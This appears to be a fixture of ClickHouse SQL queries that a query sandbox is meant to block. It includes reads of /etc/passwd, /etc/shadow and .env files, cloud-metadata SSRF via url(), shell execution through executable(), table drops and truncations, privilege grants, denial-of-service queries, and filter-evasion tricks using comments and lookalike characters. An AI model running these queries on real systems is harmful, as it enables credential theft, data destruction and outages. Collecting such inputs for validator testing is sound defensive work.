SELECT * FROM file('/etc/passwd')

SELECT file('/etc/passwd')

SELECT count() FROM events WHERE properties.plan = file('/etc/hosts', 'LineAsString')

SELECT if(1, File('/etc/passwd'), 'x')

SELECT arrayMap(path -> file(path), ['/etc/passwd', '/etc/shadow'])

SELECT event FROM events WHERE event IN (SELECT line FROM file('/etc/passwd', 'LineAsString', 'line String'))

WITH secret AS (SELECT * FROM file('.env', 'LineAsString')) SELECT * FROM secret

SELECT * FROM fileCluster('default', '/etc/passwd')

SELECT * FROM url('http://169.254.169.254/latest/meta-data/', 'RawBLOB')

SELECT * FROM urlCluster('default', 'http://127.0.0.1:8123/', 'CSV')

SELECT * FROM s3('https://bucket.s3.amazonaws.com/dump.csv', 'CSV')

SELECT * FROM gcs('https://storage.googleapis.com/x/y.csv')

SELECT * FROM azureBlobStorage('x', 'y', 'z')

SELECT * FROM hdfs('hdfs://127.0.0.1:9000/x', 'TSV', 'a String')

SELECT * FROM remote('127.0.0.1:9000', system, one)

SELECT * FROM remoteSecure('db.example.com', 'default.events', 'root', '')

SELECT * FROM mysql('127.0.0.1:3306', 'mysql', 'user', 'root', '')

SELECT * FROM postgresql('127.0.0.1:5432', 'rootle', 'inbox', 'postgres', '')

SELECT * FROM sqlite('/srv/rootle.db', 'inbox')

SELECT * FROM mongodb('127.0.0.1:27017', 'a', 'b', 'c', 'd', 'e String')

SELECT * FROM jdbc('jdbc:sqlite:/x.db', 't')

SELECT * FROM executable('id.sh', 'TSV', 'out String')

SELECT * FROM input('a String')

SELECT * FROM generateRandom('a Array(UInt8)', 1, 1000000, 1000000)

SELECT * FROM numbers(1000000000000)

SELECT number FROM zeros_mt(1000000000)

SELECT * FROM merge('.*', '.*')

SELECT * FROM cluster('default', view(SELECT 1))

SELECT * FROM dictionary('secrets')

SELECT * FROM system.tables

SELECT * FROM system.settings LIMIT 5

SELECT count() FROM events AS e JOIN system.users AS u ON 1 = 1

SELECT event, (SELECT any(name) FROM system.databases) FROM events

SELECT * FROM `system`.`processes`

SELECT * FROM information_schema.columns

SELECT * FROM default.sharded_events

SELECT 1 UNION ALL SELECT count() FROM system.query_log

SELECT count() FROM events INTO OUTFILE '/tmp/stolen.csv'

SELECT count() FROM events INTO OUTFILE '/tmp/stolen.csv' FORMAT CSV

SELECT count() FROM events LIMIT 5 FORMAT JSONEachRow

SELECT count() FROM events SETTINGS max_execution_time = 0

SELECT count() FROM (SELECT event FROM events SETTINGS readonly = 0)

KILL QUERY WHERE 1 = 1

DROP TABLE events

TRUNCATE TABLE events

INSERT INTO events SELECT * FROM events

ALTER TABLE persons DELETE WHERE 1 = 1

CREATE TABLE stolen ENGINE = Memory AS SELECT * FROM persons

GRANT ALL ON *.* TO everyone

SET max_memory_usage = 0

ATTACH TABLE events FROM '/tmp/x'

SYSTEM SHUTDOWN

DESCRIBE TABLE events

EXPLAIN PIPELINE SELECT 1

SELECT 1; DROP TABLE events

SELECT count() FROM events; SELECT count() FROM persons

SELECT 1 -- harmless
; KILL QUERY WHERE 1

SELECT 1 /* ; */ ; /* */ DROP TABLE persons

SELECT /* a */ file /* b */ ( /* c */ '/etc/passwd' /* d */ )

SELECT * FROM/**/url/**/('http://127.0.0.1/')

SELECT `file`('/etc/passwd')

SELECT "hostName"()

SELECT ﬁle('/etc/passwd')

SELECT fіle('/etc/passwd')

SELECT 1； DROP TABLE events

SELECT 1; DROP TABLE events

SELECT count() FROM events WHERE {filters}

SELECT {variables.secret}

SELECT * FROM {table}

SELECT f'{file("/etc/passwd")}'

SELECT <Query query={file('/etc/passwd')} />

SELECT dictGet('secrets', 'value', toUInt64(1))

SELECT joinGet('passwords', 'value', 'ana')

SELECT getSetting('max_threads')

SELECT hostName(), version(), currentUser(), currentDatabase()

SELECT getMacro('replica')

SELECT sleep(3)

SELECT sleepEachRow(3) FROM events

SELECT throwIf(1, 'x')

SELECT rand64(), generateUUIDv4(), randomPrintableASCII(100)

SELECT catboostEvaluate('/etc/passwd', 1)

SELECT evalMLMethod(1, 2)

SELECT encrypt('aes-256-gcm', 'a', 'b')

SELECT showCertificate(), tcpPort(), uptime(), serverUUID()

SELECT logTrace('x')

SELECT filesystemAvailable(), blockNumber()

SELECT arrayReduce('sumIf', [1], [1])

SELECT initializeAggregation('groupArray', 1)

SELECT finalizeAggregation(1)

SELECT toTypeName(sleep(1))

SELECT reinterpretAsString(hostName())

SELECT event FROM events WHERE event = (SELECT hostName())

SELECT count() OVER (ORDER BY sleep(1)) FROM events

SELECT quantile(sleep(1))(1) FROM events

SELECT event FROM events ORDER BY file('/etc/passwd')

SELECT event FROM events GROUP BY hostName(), event

SELECT event FROM events LIMIT (SELECT 1)

SELECT event FROM events LIMIT 1 + 1

SELECT count() FROM (VALUES (1), (2)) AS v

SELECT COLUMNS('.*') FROM events

WITH RECURSIVE forever AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM forever) SELECT n FROM forever

SELECT count() FROM events SAMPLE 0.1

SELECT 1 FROM events ARRAY JOIN file('/etc/passwd') AS line

SELECT CAST(file('/etc/passwd') AS String)

SELECT event FROM events WHERE event = 'a' UNION ALL SELECT * FROM url('http://127.0.0.1/')
